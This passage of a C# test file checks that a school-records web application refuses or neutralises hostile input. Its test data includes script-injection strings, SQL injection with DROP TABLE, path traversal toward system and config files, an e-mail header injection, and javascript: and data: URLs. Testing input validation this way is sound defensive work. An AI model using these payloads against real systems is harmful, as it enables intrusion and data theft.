    [Theory]
    [InlineData("/open/%00", null, 400)]
    [InlineData("/open/'%20OR%201=1", null, 404)]
    [InlineData("/open/%3Cscript%3Ealert(1)%3C%2Fscript%3E", null, 404)]
    [InlineData("/open/KZ%2F..%2F..%2Fetc", null, 404)]
    [InlineData("/open/%3Cscript%3Ealert(1)%3C%2Fscript%3E/rating", null, 404)]
    [InlineData("/open/'%20OR%201=1/rating", null, 404)]
    [InlineData("/open/%00/rating", null, 400)]
    [InlineData("/open/KZ/rating?lang=%3Cscript%3Ealert(1)%3C%2Fscript%3E&term=-1", null, 200)]
    [InlineData("/open/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", null, 404)]
    [InlineData("/?lang=%3Cscript%3Ealert(1)%3C%2Fscript%3E", null, 200)]
    [InlineData("/signin?notice=%3Cscript%3Ealert(1)%3C%2Fscript%3E", null, 200)]
    [InlineData("/signin?notice=1", null, 200)]
    [InlineData("/signin?returnUrl=%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E", null, 200)]
    [InlineData("/students/'%20OR%201=1", "user=p; roles=parent@P1", 404)]
    [InlineData("/students/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "user=p; roles=parent@P1", 404)]
    [InlineData("/students/'%20OR%201=1/diary", "user=p; roles=parent@P1", 404)]
    [InlineData("/students/%3Cscript%3Ealert(1)%3C%2Fscript%3E/diary?term=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "user=p; roles=parent@P1", 404)]
    [InlineData("/nodes/'%20OR%201=1", "user=op; roles=operator@KZ", 404)]
    [InlineData("/nodes/KZ?term=99&subjectId=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "user=op; roles=operator@KZ", 200)]
    [InlineData("/nodes/KZ?term=-1&subjectId='%20OR%201=1", "user=op; roles=operator@KZ", 200)]
    [InlineData("/nodes/KZ?term=%00&subjectId=%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E", "user=op; roles=operator@KZ", 200)]
    [InlineData("/teaching/'%20OR%201=1", "user=t; roles=teacher@S1", 404)]
    [InlineData("/teaching/%3Cscript%3Ealert(1)%3C%2Fscript%3E?subjectId=%3Cscript%3E", "user=t; roles=teacher@S1", 404)]
    [InlineData("/assets/..%2F..%2Fappsettings.json", null, 404)]
    [InlineData("/assets/app.css", null, 404)]
    public async Task Hostile_addresses_of_pages_are_a_page_not_found_or_change_nothing(string path, string? actor, int status)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, path);
        if (actor is not null)
        {
            request.Headers.Add(HttpExtensions.ActorHeader, actor);
        }
        using var response = await api.Http.SendAsync(request);
        var body = await response.Content.ReadAsStringAsync();
        Assert.True((int)response.StatusCode == status, $"{path}: expected {status}, got {(int)response.StatusCode}");
        Assert.DoesNotContain("<script>alert", body, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("\"><script", body, StringComparison.OrdinalIgnoreCase);
        if (status is 200 or 404 && !path.StartsWith("/assets/", StringComparison.Ordinal))
        {
            Assert.Equal("text/html", response.Content.Headers.ContentType?.MediaType);
            Assert.Contains("<html lang=\"kk\">", body, StringComparison.Ordinal); // an unknown ?lang= is no language: Kazakh
        }
        if (path.StartsWith("/signin?notice=", StringComparison.Ordinal))
        {
            Assert.DoesNotContain("role=\"alert\"", body, StringComparison.Ordinal); // only known notices are shown
        }
    }

    /// <summary>
    /// Who saw a child's data: a limit out of 1..200 is a localized 400 naming the field; one that is no number cannot
    /// be bound (400); a term that names nothing on the diary page is no choice (the page of today's term). Never a 5xx.
    /// </summary>
    [Theory]
    [InlineData("/api/v1/students/{S}/readers?limit=0", 400, "limit:limitOutOfRange")]
    [InlineData("/api/v1/students/{S}/readers?limit=201", 400, "limit:limitOutOfRange")]
    [InlineData("/api/v1/students/{S}/readers?limit=-1", 400, "limit:limitOutOfRange")]
    [InlineData("/api/v1/students/{S}/readers?limit=abc", 400, null)]
    [InlineData("/api/v1/students/{S}/readers?limit=%00", 400, null)]
    [InlineData("/api/v1/students/{S}/readers?limit=99999999999", 400, null)]
    [InlineData("/api/v1/students/{S}/readers?limit=200&studentId=OTHER&role=operator", 200, null)]
    [InlineData("/students/{S}/diary?term=99", 200, null)]
    [InlineData("/students/{S}/diary?term=-1%20OR%201=1", 200, null)]
    [InlineData("/students/{S}/diary?term=%3Cscript%3Ealert(1)%3C%2Fscript%3E", 200, null)]
    public async Task Hostile_queries_of_the_diary_and_its_readers_are_refused_by_field_or_change_nothing(string path, int status, string? errors)
    {
        var student = api.Registry.Data.StudentParents[0];
        using var request = new HttpRequestMessage(HttpMethod.Get, path.Replace("{S}", student.StudentId));
        request.Headers.Add(HttpExtensions.ActorHeader, $"user=p; roles=parent@{student.ParentId}");
        request.Headers.AcceptLanguage.ParseAdd("en");
        using var response = await api.Http.SendAsync(request);
        var body = await response.Content.ReadAsStringAsync();
        Assert.True((int)response.StatusCode == status, $"{path}: expected {status}, got {(int)response.StatusCode} {body}");
        Assert.DoesNotContain("<script>alert", body, StringComparison.OrdinalIgnoreCase);
        if (path.StartsWith("/students/", StringComparison.Ordinal))
        {
            Assert.Equal("text/html", response.Content.Headers.ContentType?.MediaType);
            return;
        }
        if (status == 200)
        {
            Assert.Equal(System.Text.Json.JsonValueKind.Array, System.Text.Json.JsonDocument.Parse(body).RootElement.ValueKind);
            return;
        }
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        var problem = System.Text.Json.JsonDocument.Parse(body).RootElement;
        Assert.False(string.IsNullOrEmpty(problem.GetProperty("title").GetString()));
        if (errors is not null)
        {
            Assert.Equal(LocalizedType(Validation), problem.GetProperty("type").GetString());
            Assert.Equal(errors, string.Join(",", Errors(problem)));
            Assert.Equal("The limit is a number from 1 to 200.", problem.GetProperty("errors")[0].GetProperty("message").GetString());
        }
    }

    /// <summary>The journal page's query values that name nothing are no choice: the reader's subject and today's term, nothing reflected.</summary>
    [Theory]
    [InlineData("subjectId=%3Cscript%3Ealert(1)%3C%2Fscript%3E&term=99")]
    [InlineData("subjectId='%20OR%201=1&term=-1&groupId=%22%3E%3Cscript%3E")]
    [InlineData("term=%00&groupId=../../etc")]
    public async Task Hostile_journal_page_queries_change_nothing(string query)
    {
        var t = api.Registry.InClass(1);
        var organization = api.Registry.Data.Classes.Single(c => c.Id == t.ClassId).OrganizationId;
        using var request = new HttpRequestMessage(HttpMethod.Get, $"/teaching/{t.ClassId}?{query}");
        request.Headers.Add(HttpExtensions.ActorHeader, $"user=hostile-teacher; person={t.TeacherId}; roles=teacher@{organization}");
        using var response = await api.Http.SendAsync(request);
        var body = await response.Content.ReadAsStringAsync();
        Assert.Equal(200, (int)response.StatusCode);
        var own = api.Registry.Data.Assignments.Where(a => a.GroupId == t.ClassId && a.TeacherId == t.TeacherId).Select(a => a.SubjectId);
        Assert.Contains(own, s => body.Contains($"data-subject-id=\"{s}\"", StringComparison.Ordinal));
        Assert.DoesNotContain("<script>alert", body, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("\"><script", body, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("name=\"groupId\"", body, StringComparison.Ordinal); // a group that is not one of the class's is no group
    }

    /// <summary>
    /// The dashboard's shared section (GET /nodes/{id}/view) takes the page's junk: filters and languages that name
    /// nothing are ignored (the same view as the page shows), an id that matches nothing is a 404 problem, a version that
    /// is not a whole number a localized 400 naming v; nothing from the address comes back unescaped. Never a 5xx.
    /// </summary>
    [Theory]
    [InlineData("/nodes/KZ/view?term=99&subjectId=%3Cscript%3Ealert(1)%3C%2Fscript%3E", 200)]
    [InlineData("/nodes/KZ/view?term=-1&subjectId='%20OR%201=1&v=0", 200)]
    [InlineData("/nodes/KZ/view?term=%00&subjectId=%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E", 200)]
    [InlineData("/nodes/KZ/view?lang=%3Cscript%3Ealert(1)%3C%2Fscript%3E&v=1", 200)]
    [InlineData("/nodes/KZ/view?lang=ru-RU%00&term=2", 200)]
    [InlineData("/nodes/KZ/view?v=-1", 400)]
    [InlineData("/nodes/KZ/view?v=1e3", 400)]
    [InlineData("/nodes/KZ/view?v=%3Cscript%3Ealert(1)%3C%2Fscript%3E", 400)]
    [InlineData("/nodes/KZ/view?v=99999999999999999999999999", 400)]
    [InlineData("/nodes/KZ/view?v=1&v=2", 400)]
    [InlineData("/nodes/'%20OR%201=1/view?v=1", 404)]
    [InlineData("/nodes/%3Cscript%3Ealert(1)%3C%2Fscript%3E/view", 404)]
    [InlineData("/nodes/%00/view", 400)]
    public async Task Hostile_queries_of_the_shared_dashboard_section_are_ignored_or_refused(string path, int status)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, path);
        request.Headers.Add(HttpExtensions.ActorHeader, "user=op; roles=operator@KZ");
        request.Headers.AcceptLanguage.ParseAdd("en");
        using var response = await api.Http.SendAsync(request);
        var body = await response.Content.ReadAsStringAsync();
        Assert.True((int)response.StatusCode == status, $"{path}: expected {status}, got {(int)response.StatusCode} {body}");
        Assert.DoesNotContain("<script>alert", body, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("\"><script", body, StringComparison.OrdinalIgnoreCase);
        switch (status)
        {
            case 200:
                Assert.Equal("text/html", response.Content.Headers.ContentType?.MediaType);
                Assert.StartsWith("<section id=\"dashboard\"", body, StringComparison.Ordinal);
                Assert.Contains("href=\"/api/v1/nodes/KZ/export?format=csv", body, StringComparison.Ordinal);
                break;
            case 400 when path.Contains("%00/", StringComparison.Ordinal):
                Assert.Null(response.Content.Headers.ContentType); // refused by the server before any endpoint
                break;
            case 400:
                var problem = System.Text.Json.JsonDocument.Parse(body).RootElement;
                Assert.Equal(LocalizedType(Validation), problem.GetProperty("type").GetString());
                Assert.Equal("v:versionInvalid", string.Join(",", Errors(problem)));
                break;
            default:
                Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
                Assert.Equal(LocalizedType("not-found"), System.Text.Json.JsonDocument.Parse(body).RootElement.GetProperty("type").GetString());
                break;
        }
    }

    /// <summary>
    /// Organization profiles (issue 18): names that would display as something else (bidirectional overrides and
    /// isolates, invisible characters), language codes outside the list, unknown kinds and smuggled fields are each a
    /// localized 400 naming the field; the organization's row does not change.
    /// </summary>
    [Theory]
    [InlineData("a right-to-left override in the name", "\"nameEn\":\"School \\u202Egnp.exe\"", Validation, "nameEn:nameInvalid")]
    [InlineData("a bidirectional isolate in the name", "\"nameRu\":\"Школа \\u2067№ 1\\u2069\"", Validation, "nameRu:nameInvalid")]
    [InlineData("a right-to-left mark in the name", "\"nameKk\":\"Мектеп\\u200F\"", Validation, "nameKk:nameInvalid")]
    [InlineData("a zero-width space in the name", "\"nameKk\":\"Мек\\u200Bтеп\"", Validation, "nameKk:nameInvalid")]
    [InlineData("NUL in the name", "\"nameEn\":\"School\\u0000\"", Validation, "nameEn:nameInvalid")]
    [InlineData("a line break in the name", "\"nameEn\":\"School\\nOne\"", Validation, "nameEn:nameInvalid")]
    [InlineData("script as the name is text, but 300 characters are too many", "\"nameEn\":\"<script>alert(1)</script>{LONG}\"", Validation, "nameEn:nameTooLong")]
    [InlineData("an empty name", "\"nameRu\":\"  \"", Validation, "nameRu:required")]
    [InlineData("an unknown language code", "\"languages\":[\"kk\",\"xx\"]", Validation, "languages[1]:languageUnknown")]
    [InlineData("a language code in capitals", "\"languages\":[\"KK\"]", Validation, "languages[0]:languageUnknown")]
    [InlineData("SQL injection as a language", "\"languages\":[\"kk'); DROP TABLE organizations; --\"]", Validation, "languages[0]:languageUnknown")]
    [InlineData("a language twice", "\"languages\":[\"ru\",\"ru\"]", Validation, "languages[1]:languageDuplicate")]
    [InlineData("no languages", "\"languages\":[]", Validation, "languages:required")]
    [InlineData("languages a string", "\"languages\":\"kk\"", Malformed, null)]
    [InlineData("an unknown kind", "\"kind\":\"university\"", Validation, "kind:kindUnknown")]
    [InlineData("a kind by number", "\"kind\":1", Malformed, null)]
    [InlineData("isRural a string", "\"isRural\":\"yes\"", Malformed, null)]
    [InlineData("an id smuggled in", "\"id\":\"X\"", Malformed, "id:fieldUnknown")]
    [InlineData("a right-to-left override in the address", "\"addressKk\":\"Абай к. \\u202E21\"", Validation, "addressKk:addressInvalid")]
    [InlineData("NUL in the address", "\"addressRu\":\"ул. Абая\\u0000\"", Validation, "addressRu:addressInvalid")]
    [InlineData("an IIN in the address", "\"addressRu\":\"ул. Абая 21, 850101300123\"", Validation, "addressRu:addressInvalid")]
    [InlineData("an address of 301 characters", "\"addressKk\":\"ә{LONG}\"", Validation, "addressKk:addressTooLong")]
    [InlineData("an address as a number", "\"addressKk\":21", Malformed, null)]
    [InlineData("script as the phone", "\"phone\":\"javascript:alert(1)\"", Validation, "phone:phoneInvalid")]
    [InlineData("SQL injection as the phone", "\"phone\":\"87271234567'); DROP TABLE organizations; --\"", Validation, "phone:phoneInvalid")]
    [InlineData("a Russian number as the phone", "\"phone\":\"+7 495 123 45 67\"", Validation, "phone:phoneInvalid")]
    [InlineData("the phone as a number", "\"phone\":87271234567", Malformed, null)]
    [InlineData("a header injected in the e-mail", "\"email\":\"school@edu.kz\\r\\nBcc: all@edu.kz\"", Validation, "email:emailInvalid")]
    [InlineData("markup as the e-mail", "\"email\":\"<script>@edu.kz\"", Validation, "email:emailInvalid")]
    [InlineData("a Cyrillic letter posing in the e-mail's domain", "\"email\":\"school@edu.k\\u0437\"", Validation, "email:emailInvalid")]
    [InlineData("a javascript: website", "\"website\":\"javascript:alert(document.cookie)\"", Validation, "website:websiteInvalid")]
    [InlineData("a data: website", "\"website\":\"data:text/html;base64,PHNjcmlwdD4=\"", Validation, "website:websiteInvalid")]
    [InlineData("a website with credentials", "\"website\":\"https://admin:secret@edu.kz/\"", Validation, "website:websiteInvalid")]
    [InlineData("a protocol-relative website", "\"website\":\"//evil.example/\"", Validation, "website:websiteInvalid")]
    [InlineData("a website that breaks out of its attribute", "\"website\":\"https://edu.kz/\\\" onmouseover=\\\"alert(1)\"", Validation, "website:websiteInvalid")]
    [InlineData("websites as a list", "\"website\":[\"https://edu.kz/\"]", Malformed, null)]
    [InlineData("markup as the head's name", "\"headName\":\"<img src=x onerror=alert(1)>\"", Validation, "headName:headNameInvalid")]
    [InlineData("an IIN as the head's name", "\"headName\":\"850101300123\"", Validation, "headName:headNameInvalid")]
    [InlineData("a right-to-left override in the head's name", "\"headName\":\"Гүлнар \\u202EӘли\"", Validation, "headName:headNameInvalid")]
    [InlineData("the head's name of 300 letters", "\"headName\":\"{LONG}\"", Validation, "headName:nameTooLong")]
    public async Task Hostile_organization_profiles_are_refused_with_the_field_named(string because, string field, string type, string? error)
    {
        var organization = api.Registry.Data.Organizations.First(o => o.Kind == "school");
        var fields = new Dictionary<string, string>
        {
            ["nameKk"] = "\"Мектеп\"", ["nameRu"] = "\"Школа\"", ["nameEn"] = "\"School\"", ["languages"] = "[\"kk\",\"ru\"]",
            ["kind"] = "\"school\"", ["isRural"] = "false",
        };
        var name = field[1..field.IndexOf('"', 1)];
        fields[name] = field[(field.IndexOf(':') + 1)..].Replace("{LONG}", new string('x', 300));
        var body = "{" + string.Join(",", fields.Select(f => $"\"{f.Key}\":{f.Value}")) + "}";
        var before = await api.Db.ScalarAsync<string>("SELECT row(o.*)::text FROM organizations o WHERE id = @o", ("o", organization.Id));
        var response = await api.Http.SendJsonAsync(HttpMethod.Put, $"/api/v1/organizations/{organization.Id}/profile",
            actor: "user=op; roles=operator@KZ", acceptLanguage: "en", rawBody: body);
        Assert.True(response.Status == 400, $"{because}: expected 400, got {response.Status} {response.Body}");
        Assert.Equal(LocalizedType(type), response.Body.GetProperty("type").GetString());
        Assert.Equal(EnglishTitles[type], response.Body.GetProperty("title").GetString());
        if (error is not null)
        {
            Assert.Equal([error], Errors(response.Body));
        }
        Assert.Equal(before, await api.Db.ScalarAsync<string>("SELECT row(o.*)::text FROM organizations o WHERE id = @o", ("o", organization.Id)));
    }

    /// <summary>
    /// Final attestation policy versions (issue 20): bodies that cannot be read or break a rule are each a localized 400
    /// naming the field, and no version is written (the stored versions stay byte for byte).
    /// </summary>
    [Theory]
    [InlineData("grade 0", "documents", "[{\"grade\":0,\"document\":\"basicSecondaryCertificate\"},{\"grade\":11,\"document\":\"generalSecondaryAttestat\"}]", Validation, "documents:attestationGradesInvalid")]
    [InlineData("documents a string", "documents", "\"9\"", Malformed, null)]
    [InlineData("a document kind by number", "documents", "[{\"grade\":11,\"document\":1}]", Malformed, null)]
    [InlineData("a script as the document kind", "documents", "[{\"grade\":11,\"document\":\"<script>alert(1)</script>\"}]", Validation, "documents:attestationGradesInvalid")]
    [InlineData("SQL as the document kind", "documents", "[{\"grade\":11,\"document\":\"x'); DROP TABLE final_attestation_policies; --\"}]", Validation, "documents:attestationGradesInvalid")]
    [InlineData("10 000 attested grades", "documents", "{MANY}", Validation, "documents:attestationGradesInvalid")]
    [InlineData("a field smuggled into a grade", "documents", "[{\"grade\":11,\"document\":\"generalSecondaryAttestat\",\"admin\":true}]", Malformed, null)]
    [InlineData("the final grade a string", "finalGrade", "\"11\"", Malformed, null)]
    [InlineData("the final grade beyond int", "finalGrade", "2147483648", Malformed, null)]
    [InlineData("a weight as a fraction", "examWeight", "0.5", Malformed, null)]
    [InlineData("a negative weight", "annualWeight", "-1", Validation, "weights:attestationWeightsInvalid")]
    [InlineData("a pass mark of 1", "passMark", "1", Validation, "passMark:attestationValueOutOfRange")]
    [InlineData("an effective date of 30 February", "effectiveFrom", "\"2031-02-30\"", Malformed, null)]
    [InlineData("an effective date in force", "effectiveFrom", "\"2026-09-01\"", Validation, "effectiveFrom:policyInForce")]
    [InlineData("an unknown field", "approvedBy", "\"minister\"", Malformed, "approvedBy:fieldUnknown")]
    public async Task Hostile_final_attestation_policies_are_refused_and_write_nothing(string because, string name, string value, string type, string? error)
    {
        var fields = new Dictionary<string, string>
        {
            ["effectiveFrom"] = "\"2031-09-01\"", ["documents"] = "[{\"grade\":9,\"document\":\"basicSecondaryCertificate\"},{\"grade\":11,\"document\":\"generalSecondaryAttestat\"}]",
            ["finalGrade"] = "11", ["annualWeight"] = "1", ["examWeight"] = "1", ["passMark"] = "3", ["maxReexaminations"] = "2",
        };
        fields[name] = value.Replace("{MANY}", "[" + string.Join(",", Enumerable.Range(0, 10_000).Select(i => $"{{\"grade\":{i},\"document\":\"generalSecondaryAttestat\"}}")) + "]");
        var body = "{" + string.Join(",", fields.Select(f => $"\"{f.Key}\":{f.Value}")) + "}";
        const string Stored = "SELECT coalesce(string_agg(effective_from::text || document::text, '|' ORDER BY effective_from), '') FROM final_attestation_policies";
        var before = await api.Db.ScalarAsync<string>(Stored);
        var response = await api.Http.SendJsonAsync(HttpMethod.Put, "/api/v1/policies/final-attestation", actor: "user=op; roles=operator@KZ", acceptLanguage: "en", rawBody: body);
        Assert.True(response.Status == 400, $"{because}: expected 400, got {response.Status} {response.Body}");
        Assert.Equal(LocalizedType(type), response.Body.GetProperty("type").GetString());
        Assert.Equal(EnglishTitles[type], response.Body.GetProperty("title").GetString());
        if (error is not null)
        {
            Assert.Equal([error], Errors(response.Body));
        }
        Assert.Equal(before, await api.Db.ScalarAsync<string>(Stored));
    }

    /// <summary>Rating methodology versions (issue 21): each hostile body a localized 400 naming the field, no version written.</summary>
    [Theory]
    [InlineData("an indicator by number", "indicators", "[{\"indicator\":1,\"weight\":1}]", Malformed, null)]
    [InlineData("SQL as an indicator", "indicators", "[{\"indicator\":\"attendance'); DROP TABLE rating_methodologies; --\",\"weight\":1}]", Validation, "indicators:ratingIndicatorsInvalid")]
    [InlineData("a weight beyond int", "indicators", "[{\"indicator\":\"attendance\",\"weight\":99999999999}]", Malformed, null)]
    [InlineData("six indicators", "indicators", "[{\"indicator\":\"attendance\",\"weight\":1},{\"indicator\":\"attendance\",\"weight\":1},{\"indicator\":\"successRate\",\"weight\":1},{\"indicator\":\"completeness\",\"weight\":1},{\"indicator\":\"knowledgeQuality\",\"weight\":1},{\"indicator\":\"targetAttainment\",\"weight\":1}]", Validation, "indicators:ratingIndicatorsInvalid")]
    [InlineData("a minimum of 1 pupil (below the small-cell threshold)", "minimumStudents", "1", Validation, "minimumStudents:attestationValueOutOfRange")]
    [InlineData("a script as the note is text, but a right-to-left override is not", "note", "{\"kk\":\"<script>alert(1)</script>\",\"ru\":\"\\u202Eтекст\",\"en\":\"x\"}", Validation, "note.ru:ratingNoteInvalid")]
    [InlineData("a note field smuggled in", "note", "{\"kk\":\"ә\",\"ru\":\"я\",\"en\":\"x\",\"html\":\"<b>\"}", Malformed, null)]
    [InlineData("a NUL in the note", "note", "{\"kk\":\"ә\\u0000\",\"ru\":\"я\",\"en\":\"x\"}", Validation, "note.kk:ratingNoteInvalid")]
    [InlineData("an unknown field", "publishedBy", "\"minister\"", Malformed, "publishedBy:fieldUnknown")]
    public async Task Hostile_rating_methodologies_are_refused_and_write_nothing(string because, string name, string value, string type, string? error)
    {
        var fields = new Dictionary<string, string>
        {
            ["effectiveFrom"] = "\"2031-09-01\"", ["indicators"] = "[{\"indicator\":\"attendance\",\"weight\":1}]", ["minimumStudents"] = "30",
            ["note"] = "{\"kk\":\"ә\",\"ru\":\"я\",\"en\":\"x\"}",
        };
        fields[name] = value;
        var body = "{" + string.Join(",", fields.Select(f => $"\"{f.Key}\":{f.Value}")) + "}";
        const string Stored = "SELECT coalesce(string_agg(effective_from::text || document::text, '|' ORDER BY effective_from), '') FROM rating_methodologies";
        var before = await api.Db.ScalarAsync<string>(Stored);
        var response = await api.Http.SendJsonAsync(HttpMethod.Put, "/api/v1/policies/rating-methodology", actor: "user=op; roles=operator@KZ", acceptLanguage: "en", rawBody: body);
        Assert.True(response.Status == 400, $"{because}: expected 400, got {response.Status} {response.Body}");
        Assert.Equal(LocalizedType(type), response.Body.GetProperty("type").GetString());
        if (error is not null)
        {
            Assert.Equal([error], Errors(response.Body));
        }
        Assert.Equal(before, await api.Db.ScalarAsync<string>(Stored));
    }

    /// <summary>
    /// An organization's public card (issue 21), anonymous: an id that is a district, a class, a path, a script or SQL
    /// is a localized 404 problem; a NUL or 10 000 characters are refused by the server before any endpoint (400, 414);
    /// never a 5xx; a junk ?lang= is no language.
    /// </summary>
    [Theory]
    [InlineData("{DISTRICT}", 404)]
    [InlineData("{CLASS}", 404)]
    [InlineData("..%2F..%2Fetc%2Fpasswd", 404)]
    [InlineData("%3Cscript%3Ealert(1)%3C%2Fscript%3E", 404)]
    [InlineData("O00001'%20OR%20'1'%3D'1", 404)]
    [InlineData("%00", 400)]
    [InlineData("{LONG}", 414)]
    [InlineData("{SCHOOL}?lang=%3Cscript%3E", 200)]
    public async Task Hostile_public_organization_ids_are_refused_as_not_found(string id, int status)
    {
        var path = id.Replace("{DISTRICT}", api.Registry.Data.Nodes.First(n => n.Kind == "district").Id)
            .Replace("{CLASS}", api.Registry.Data.Classes[0].Id).Replace("{SCHOOL}", api.Registry.Data.Organizations.First(o => o.Kind == "school").Id)
            .Replace("{LONG}", new string('O', 10_000));
        var response = await api.Http.GetJsonAsync($"/api/v1/public/organizations/{path}", actor: null, acceptLanguage: "ru");
        Assert.True(response.Status == status, $"{id}: expected {status}, got {response.Status} {response.Body}");
        switch (status)
        {
            case 404:
                Assert.Equal("application/problem+json", response.ContentType);
                Assert.Equal(LocalizedType("not-found"), response.Body.GetProperty("type").GetString());
                Assert.Equal("Такой организации нет.", response.Body.GetProperty("detail").GetString());
                break;
            case 200:
                // The junk language is no language: the header's Russian, and nothing of it comes back.
                Assert.Equal(await api.Db.ScalarAsync<string>("SELECT name_ru FROM organizations WHERE id = @o", ("o", response.Body.GetProperty("id").GetString()!)),
                    response.Body.GetProperty("name").GetString());
                Assert.All(response.Body.EnumerateObject().Where(p => p.Value.ValueKind == System.Text.Json.JsonValueKind.String),
                    p => Assert.DoesNotContain("script", p.Value.GetString()!, StringComparison.OrdinalIgnoreCase));
                break;
            default:
                Assert.Null(response.ContentType); // refused by the server before any endpoint: no body at all
                break;
        }
    }

    /// <summary>The profile page's notice comes from the address: only known fields and codes are shown, nothing comes back unescaped.</summary>
    [Theory]
    [InlineData("?notice=refused&error=%3Cscript%3Ealert(1)%3C%2Fscript%3E:nameInvalid")]
    [InlineData("?notice=refused&error=nameEn:%3Cscript%3Ealert(1)%3C%2Fscript%3E&error=%00")]
    [InlineData("?notice=refused&error=nameEn:1&error=kind:NotFound")]
    [InlineData("?notice=%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E")]
    public async Task Hostile_queries_of_the_profile_page_show_nothing_of_theirs(string query)
    {
        var organization = api.Registry.Data.Organizations.First(o => o.Kind == "school");
        using var request = new HttpRequestMessage(HttpMethod.Get, $"/organizations/{organization.Id}/profile{query}");
        request.Headers.Add(HttpExtensions.ActorHeader, "user=op; roles=operator@KZ");
        using var response = await api.Http.SendAsync(request);
        var body = await response.Content.ReadAsStringAsync();
        Assert.Equal(200, (int)response.StatusCode);
        Assert.DoesNotContain("<script>alert", body, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("data-field=", body, StringComparison.Ordinal);
    }

    /// <summary>Hostile enrolments (issue 18): each refused 400 in English with its one field:code, and no pupil written.</summary>
    [Theory]
    [InlineData("a right-to-left override in the last name", "\"lastName\":\"Сәрсен\u202Eбаев\"", "lastName:nameInvalid")]
    [InlineData("a left-to-right embedding in the first name", "\"firstName\":\"\u202AӘлихан\"", "firstName:nameInvalid")]
    [InlineData("a NUL in the first name", "\"firstName\":\"Әли\\u0000хан\"", "firstName:nameInvalid")]
    [InlineData("markup as a name", "\"lastName\":\"<img src=x onerror=alert(1)>\"", "lastName:nameInvalid")]
    [InlineData("SQL as a name", "\"lastName\":\"x'); DROP TABLE students;--\"", "lastName:nameInvalid")]
    [InlineData("a name of 10 000 letters", "\"lastName\":\"LONG\"", "lastName:nameTooLong")]
    [InlineData("an IIN with a bad checksum", "\"iin\":\"BADSUM\"", "iin:iinInvalid")]
    [InlineData("an IIN with an injection", "\"iin\":\"1' OR '1'='1\"", "iin:iinInvalid")]
    [InlineData("a birth date the IIN does not encode", "\"birthDate\":\"2015-03-15\"", "birthDate:iinBirthDateMismatch")]
    [InlineData("a sex the IIN does not encode", "\"sex\":\"female\"", "sex:iinSexMismatch")]
    [InlineData("a sex by number", "\"sex\":\"1\"", "sex:sexInvalid")]
    [InlineData("an enrolment tomorrow", "\"date\":\"2026-11-28\"", "date:dateInFuture")]
    public async Task A_hostile_enrolment_is_refused_and_writes_nobody(string because, string field, string error)
    {
        var t = api.Registry.InClass(1);
        var organization = api.Registry.Data.Classes.Single(c => c.Id == t.ClassId).OrganizationId;
        var iin = PupilApiTests.FreshIin("150314");
        var fields = new Dictionary<string, string>
        {
            ["iin"] = $"\"iin\":\"{iin}\"", ["lastName"] = "\"lastName\":\"Сәрсенбаев\"", ["firstName"] = "\"firstName\":\"Әлихан\"",
            ["birthDate"] = "\"birthDate\":\"2015-03-14\"", ["sex"] = "\"sex\":\"male\"", ["date"] = "\"date\":\"2026-11-16\"",
        };
        var name = field[1..field.IndexOf('"', 1)];
        fields[name] = field.Replace("LONG", new string('а', 10_000)).Replace("BADSUM", iin[..11] + (char)('0' + ((iin[11] - '0' + 1) % 10)));
        var students = await api.Db.ScalarAsync<long>("SELECT count(*) FROM students");
        var response = await api.Http.SendJsonAsync(HttpMethod.Post, $"/api/v1/classes/{t.ClassId}/pupils",
            actor: $"user=hostile-head; roles=head@{organization}", acceptLanguage: "en", rawBody: "{" + string.Join(',', fields.Values) + "}");
        Assert.True(response.Status == 400, $"{because}: expected 400, got {response.Status} {response.Body}");
        Assert.Equal(LocalizedType(Validation), response.Body.GetProperty("type").GetString());
        Assert.Equal(EnglishTitles[Validation], response.Body.GetProperty("title").GetString());
        Assert.True(Errors(response.Body).SequenceEqual([error]), $"{because}: expected [{error}], got [{string.Join(", ", Errors(response.Body))}]");
        Assert.Equal(students, await api.Db.ScalarAsync<long>("SELECT count(*) FROM students"));
    }

    /// <summary>
    /// Issue 20: a head's exemption from a subject with hostile fields is refused by field, localized, and writes no
    /// journal row; an unreadable body is a malformed-request problem.
    /// </summary>
    [Theory]
    [InlineData("a ground by number", "\"ground\":0", Malformed, null)]
    [InlineData("a ground nobody lists", "\"ground\":\"laziness\"", Validation, "ground:exemptionGroundUnknown")]
    [InlineData("a ground with markup", "\"ground\":\"<script>alert(1)</script>\"", Validation, "ground:exemptionGroundUnknown")]
    [InlineData("a term as text", "\"term\":\"2; DROP TABLE journal\"", Malformed, null)]
    [InlineData("a term out of the calendar", "\"term\":99", Validation, "term:termUnknown")]
    [InlineData("a reason with a right-to-left override", "\"reason\":\"Медициналық \u202Eқорытынды\"", Validation, "reason:reasonTooLong")]
    [InlineData("a reason of 10 000 letters", "\"reason\":\"LONG\"", Validation, "reason:reasonTooLong")]
    [InlineData("a pupil of another class", "\"studentId\":\"{OTHER}\"", Validation, "studentId:studentNotInClass")]
    [InlineData("a subject as SQL", "\"subjectId\":\"MAT' OR '1'='1\"", Validation, "subjectId:subjectUnknown")]
    public async Task A_hostile_exemption_is_refused_and_writes_nothing(string because, string field, string type, string? error)
    {
        var t = api.Registry.InClass(1);
        var other = api.Registry.InClass(2);
        var organization = api.Registry.Data.Classes.Single(c => c.Id == t.ClassId).OrganizationId;
        var fields = new Dictionary<string, string>
        {
